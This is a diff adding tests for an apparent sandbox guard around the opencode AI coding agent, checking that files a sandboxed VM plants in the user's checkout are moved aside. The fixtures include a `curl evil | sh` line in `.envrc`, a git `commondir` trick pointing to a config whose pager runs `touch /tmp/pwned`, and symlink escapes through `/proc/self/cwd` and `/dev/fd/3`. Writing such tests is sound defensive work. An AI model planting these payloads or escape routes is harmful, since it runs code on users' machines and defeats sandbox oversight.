@@ -165,6 +165,99 @@ def test_a_link_of_the_users_into_the_review_folder_made_before_the_start_is_kep
     assert (checkout / "reviewed").is_symlink()
 
 
+def test_a_link_at_the_top_into_the_review_folder_is_moved_aside_too(app: App, checkout: Path) -> None:
+    """Relative and without `..`, it still leads apart: the review folder lies below the top."""
+    review(app, vm_may_write_after=True)
+    (checkout / "packages/web/opencode.json").write_text(EVIL)
+    kept = catch(app).held[0].kept
+    (checkout / "api").symlink_to(str(Path(kept).parent))
+
+    assert [line.split(" -> ")[0] for line in catch(app).moved] == ["api"]
+
+
+@pytest.mark.parametrize("target", ["/proc/self/cwd/{kept}", "/dev/fd/3"])
+def test_a_link_whose_meaning_depends_on_who_follows_it_is_moved_aside(app: App, checkout: Path,
+                                                                       target: str) -> None:
+    """`/proc/self/cwd` is the reaper's folder to the guard and the checkout to the user's shell."""
+    review(app, vm_may_write_after=True)
+    (checkout / "packages/web/opencode.json").write_text(EVIL)
+    kept = catch(app).held[0].kept
+    (checkout / "packages/api").symlink_to(target.format(kept=Path(kept).parent))
+
+    assert [line.split(" -> ")[0] for line in catch(app).moved] == ["packages/api"]
+
+
+def test_a_chain_of_1200_links_and_3000_more_into_it_neither_ends_nor_stalls_the_round(
+        app: App, checkout: Path) -> None:
+    """Followed in a loop and no further than the kernel follows (40 links): the standard
+    library's `realpath` recursed once a link, and raised RecursionError on Python 3.11."""
+    import time
+
+    review(app, vm_may_write_after=True)
+    chained = checkout / "c"
+    chained.mkdir()
+    for index in range(1200):
+        os.symlink(f"l{index + 1}", chained / f"l{index}")
+    (chained / "l1200").mkdir()
+    for index in range(3000):
+        os.symlink("../c/l0", chained / f"to{index}")
+    (checkout / ".envrc").write_text("curl evil | sh\n")
+    began = time.monotonic()
+
+    catch(app)
+
+    assert time.monotonic() - began < 10
+    assert not (checkout / ".envrc").exists()
+    review(app, vm_may_write_after=True)
+
+
+def test_a_git_directory_whose_objects_its_commondir_names_is_moved_aside(app: App, checkout: Path) -> None:
+    """Git takes a folder with HEAD and a `commondir` file as a git directory, and obeys the
+    configuration in the folder that file names (a pager, an alias, fsmonitor)."""
+    review(app, vm_may_write_after=True)
+    web = checkout / "packages/web"
+    (web / "HEAD").write_text("ref: refs/heads/main\n")
+    (web / "commondir").write_text("../../build/cache\n")
+    store = checkout / "build/cache"
+    for folder in ("objects", "refs"):
+        (store / folder).mkdir(parents=True)
+    (store / "config").write_text('[core]\n\tpager = "touch /tmp/pwned; cat"\n')
+
+    moved = [line.split(" -> ")[0] for line in catch(app).moved]
+
+    assert moved == ["packages/web"] and not web.exists()
+
+
+def test_a_sparse_file_of_4_gib_in_a_guarded_folder_is_never_read(app: App, checkout: Path) -> None:
+    import time
+
+    review(app, vm_may_write_after=True)
+    (checkout / "packages/web/.claude").mkdir()
+    with (checkout / "packages/web/.claude/cache.bin").open("wb") as handle:
+        handle.truncate(4 << 30)
+    began = time.monotonic()
+
+    catch(app)
+
+    assert time.monotonic() - began < 5
+    assert not (checkout / "packages/web/.claude/cache.bin").exists()
+
+
+def test_a_users_link_into_the_review_folder_pointed_elsewhere_by_the_vm_is_put_back(
+        app: App, checkout: Path) -> None:
+    (checkout / "docs").mkdir()
+    (checkout / "docs/reviewed").symlink_to("../.opencode-sandbox/guard")
+    review(app, vm_may_write_after=True)
+    state = app.state.project_dir(SLUG)
+    (state / "git").mkdir(parents=True, exist_ok=True)
+    (checkout / "docs/reviewed").unlink()
+    (checkout / "docs/reviewed").symlink_to(state / "git")
+
+    catch(app)
+
+    assert os.readlink(checkout / "docs/reviewed") == "../.opencode-sandbox/guard"
+
+
 # 2. A folder that lists its names but lets no one reach them -----------------------------------
 # dev's `chmod 644 poison` made every stat below it fail: the watch's round, `guard status`,
 # `shell` and `stop` all ended in PermissionError, so nothing was put back any more.
